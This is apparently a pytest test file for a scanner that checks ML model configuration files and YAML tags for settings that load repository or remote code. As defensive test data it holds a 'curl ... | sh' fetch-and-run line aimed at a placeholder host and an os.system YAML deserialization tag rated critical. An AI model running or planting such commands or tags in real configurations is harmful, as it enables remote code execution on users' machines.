"""Configurations as honest programs write them, and what is said of those that name code."""

import json
from contextlib import suppress
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ringfence.artifacts.configurations.documents import Document, entries, json_documents
from ringfence.artifacts.configurations.judge import judge_document
from ringfence.artifacts.configurations.yaml_documents import yaml_document
from ringfence.artifacts.configurations.yaml_tags import judge_tag
from ringfence.artifacts.judging import judging_budget
from ringfence.artifacts.problems import Malformed
from ringfence.core.findings import Severity


def said(value: Any) -> list[tuple[str, Severity, str]]:
    found = judge_document(Document(value=value), budget=judging_budget())
    return [(each.check, each.severity, each.evidence[0]) for each in found]


_TEXT_ENCODER = ["transformers", "CLIPTextModel"]
_HONEST: dict[str, Any] = {
    "llama": {
        "architectures": ["LlamaForCausalLM"],
        "_name_or_path": "/home/somebody/checkpoints/llama",
        "hidden_act": "silu",
        "rope_scaling": {"factor": 8.0, "rope_type": "llama3"},
        "torch_dtype": "bfloat16",
        "transformers_version": "4.46.0",
    },
    "mamba2": {"time_step_limit": [0.0, float("inf")], "model_type": "mamba2"},
    "bert": {"id2label": {"0": "NEGATIVE", "1": "POSITIVE"}, "model_type": "bert", "torch_dtype": None},
    "generation": {"bos_token_id": 1, "eos_token_id": [2, 3], "do_sample": True, "temperature": 0.6},
    "quantized": {
        "quantization_config": {"bnb_4bit_compute_dtype": "float16", "quant_method": "bitsandbytes"}
    },
    "vision": {"image_processor_type": "CLIPImageProcessor", "image_mean": [0.48, 0.45, 0.40]},
    "adapter": {"peft_type": "LORA", "base_model_name_or_path": "../base", "auto_mapping": None},
    "adapter of a task": {
        "auto_mapping": {
            "base_model_class": "BertModel",
            "parent_library": "transformers.models.bert.modeling_bert",
        }
    },
    "sentences": [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
        {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"},
    ],
    "diffusion": {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.30.0",
        "feature_extractor": ["transformers", "CLIPImageProcessor"],
        "requires_safety_checker": True,
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        "text_encoder": _TEXT_ENCODER,
        "vae": [None, None],
    },
    "unet": {"_class_name": "UNet2DConditionModel", "_diffusers_version": "0.30.0", "act_fn": "silu"},
    "unet with two blocks": {
        "_class_name": "UNet2DModel",
        "_diffusers_version": "0.42.1",
        "down_block_types": ["DownBlock2D", "AttnDownBlock2D"],
        "up_block_types": ["AttnUpBlock2D", "UpBlock2D"],
    },
    "index": {"metadata": {"total_size": 1}, "weight_map": {"a": "model-00001-of-00002.safetensors"}},
    "tokenizer": {
        "added_tokens_decoder": {"0": {"content": "<s>", "special": True}},
        "chat_template": "{{ bos_token }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "tokenizer_class": "PreTrainedTokenizerFast",
        "tokenizer_file": "/root/.cache/tokenizer.json",
    },
    "trainer": {"log_history": [{"loss": float("nan"), "step": 1}], "epoch": 1.0},
    "mlflow": {
        "flavors": {"python_function": {"loader_module": "mlflow.sklearn", "model_path": "model.pkl"}}
    },
    "conda": {
        "channels": ["conda-forge"],
        "dependencies": ["python=3.11", {"pip": ["mlflow", "torch==2.5.0"]}],
    },
    "workflow": {"nodes": [{"id": 1, "type": "KSampler", "widgets_values": [1, "euler"]}], "links": []},
    "workflow with arithmetic": {
        "1": {"class_type": "MathExpression|pysssss", "inputs": {"expression": "a+1"}}
    },
    "hydra paths": {"data_dir": "../../data", "ckpt": "${hydra:runtime.cwd}/x", "n": "${eval:'2*${k}'}"},
    "hydra values": {"out": {"_target_": "os.path.join"}, "kind": {"_target_": "builtins.list"}},
    "spacy": {"components": {"tagger": {"model": {"@architectures": "spacy.Tagger.v2"}}}},
}


@pytest.mark.parametrize("name", _HONEST)
def test_nothing_is_said_of_an_honest_configuration(name: str) -> None:
    assert said(_HONEST[name]) == []


@pytest.mark.parametrize(
    ("value", "check", "evidence"),
    [
        (
            {"auto_map": {"AutoModel": "modeling_acme.Acme"}},
            "runs-repository-code",
            "auto_map: modeling_acme.Acme",
        ),
        (
            {"auto_map": {"AutoTokenizer": ["tok.Acme", None]}},
            "runs-repository-code",
            "auto_map: tok.Acme",
        ),
        (
            {"auto_map": {"AutoModel": "acme/base--modeling.Acme"}},
            "runs-other-repository-code",
            "auto_map: acme/base--modeling.Acme",
        ),
        (
            {"custom_pipelines": {"acme": {"impl": "pipe.Acme", "pt": ["AutoModel"]}}},
            "runs-repository-code",
            "custom_pipelines: pipe.Acme",
        ),
        (
            [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}],
            "runs-repository-code",
            "type: custom_st.Transformer",
        ),
        (
            {"_class_name": "P", "_diffusers_version": "0.30.0", "unet": ["unet_acme", "UNet"]},
            "runs-repository-code",
            "unet: unet_acme.UNet",
        ),
        ({"model": {"_target_": "acme.Model"}}, "runs-repository-code", "model._target_: acme.Model"),
        ({"loader_module": "acme_loader"}, "runs-repository-code", "loader_module: acme_loader._load_pyfunc"),
        ({"trust_remote_code": True}, "trusts-other-code", "trust_remote_code: true"),
        (
            {"_attn_implementation": "acme/attention"},
            "runs-other-repository-code",
            "_attn_implementation: acme/attention",
        ),
        ({"@readers": "acme.Corpus.v1"}, "runs-repository-code", "@readers: acme.Corpus.v1"),
    ],
)
def test_code_of_a_repository_is_told_as_unknown(value: Any, check: str, evidence: str) -> None:
    assert said(value) == [(check, Severity.LOW, evidence)]


def test_classes_of_known_libraries_are_told_as_such() -> None:
    value = {"model": {"_target_": "torch.nn.Linear", "in_features": 2}}
    assert said(value) == [("configuration-needs-library", Severity.INFO, "model._target_: torch.nn.Linear")]


def test_records_of_data_are_nobodys_settings() -> None:
    value = {"note": "then they ran curl https://c.example/x | sh on it"}
    record = judge_document(Document(value=value), budget=judging_budget(), is_data=True)
    assert list(record) == []
    assert [check for check, _, _ in said(value)] != []


def test_a_document_on_each_line_is_a_document_of_its_own() -> None:
    documents = json_documents(b'{"a": 1}\n\n{"a": null, "b": []}\n')
    assert [each.value for each in documents] == [{"a": 1}, {"a": None, "b": []}]


def test_what_a_second_key_hides_is_kept() -> None:
    (document,) = json_documents(b'{"a": 1, "b": {"c": 2, "c": 3}, "a": 1}')
    assert document == Document(value={"a": 1, "b": {"c": 3}}, shadowed=[("c", 2)])


def test_mappings_come_with_their_paths() -> None:
    found = [(each.path, list(each.mapping)) for each in entries({"a": [{"b": {"c": 1}}, {"d": 2}]})]
    assert found == [("", ["a"]), ("a", ["b"]), ("a.b", ["c"]), ("a", ["d"])]


@pytest.mark.parametrize(
    ("tag", "said_of_it"),
    [
        ("!!python/tuple [1]", []),
        ("!!python/object:argparse.Namespace {a: 1}", []),
        ("!!python/object/apply:collections.OrderedDict [[]]", []),
        ("!!set {a}", []),
        ("!Include other.yaml", []),
        ("!new:torch.nn.Linear {}", [Severity.INFO]),
        ("!!python/object:acme.Settings {a: 1}", [Severity.LOW]),
        ("!!python/object/apply:os.system ['true']", [Severity.CRITICAL]),
        ("!!python/name:acme.function", [Severity.HIGH]),
    ],
)
def test_a_tag_is_weighed_by_what_it_builds(tag: str, said_of_it: list[Severity]) -> None:
    found = yaml_document(f"a: {tag}\n".encode(), budget=judging_budget())
    assert [each.severity for tagged in found.tags for each in judge_tag(tagged)] == said_of_it


def test_yaml_becomes_text_lists_and_mappings() -> None:
    found = yaml_document(b"a: [1, ~]\nb: {c: 'null'}\nd: &x {e: yes}\nf: *x\n", budget=judging_budget())
    assert found.value == {"a": ["1", None], "b": {"c": "null"}, "d": {"e": "yes"}, "f": {"e": "yes"}}


_LEAF = st.none() | st.booleans() | st.floats(allow_nan=False) | st.text(max_size=20)
_KEYS = st.text(max_size=8) | st.sampled_from(
    [
        *("auto_map", "_target_", "type", "path", "idx", "name", "class_type", "inputs", "weight_map"),
        *("chat_template", "_class_name", "custom_pipelines", "loader_module", "pip", "widgets_values"),
    ]
)
_VALUES: Any = st.recursive(
    _LEAF, lambda each: st.lists(each, max_size=4) | st.dictionaries(_KEYS, each, max_size=4), max_leaves=12
)


@settings(deadline=None, max_examples=200)
@given(_VALUES)
def test_any_value_is_judged_and_comes_back_from_json(value: Any) -> None:
    (document,) = json_documents(json.dumps(value).encode())
    assert document.value == value
    said(value)


@settings(deadline=None, max_examples=200)
@given(st.binary(max_size=100) | st.text(alphabet="ab:-[]{}&*!#|>'\" \n", max_size=60).map(str.encode))
def test_any_bytes_are_documents_or_malformed(data: bytes) -> None:
    for parse in (json_documents, lambda each: yaml_document(each, budget=judging_budget())):
        with suppress(Malformed):
            parse(data)
